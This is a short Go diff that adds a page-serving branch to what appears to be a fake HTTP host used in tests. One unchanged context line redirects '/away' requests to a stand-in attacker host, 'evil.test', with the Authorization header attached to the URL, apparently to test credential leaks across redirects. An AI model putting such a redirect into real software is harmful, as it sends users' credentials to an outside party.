@@ -181,6 +181,13 @@ func host(name string) http.Handler {
 		case "/away":
 			http.Redirect(w, r, "https://evil.test/?"+r.Header.Get("Authorization"), http.StatusFound)
 		default:
+			if text, ok := page(strings.TrimPrefix(r.URL.Path, "/pages/")); ok {
+				if strings.HasSuffix(r.URL.Path, ".json") {
+					w.Header().Set("Content-Type", "application/json")
+				}
+				_, _ = io.WriteString(w, text)
+				return
+			}
 			fmt.Fprintf(w, "hello from %s\n", name)
 		}
 	})
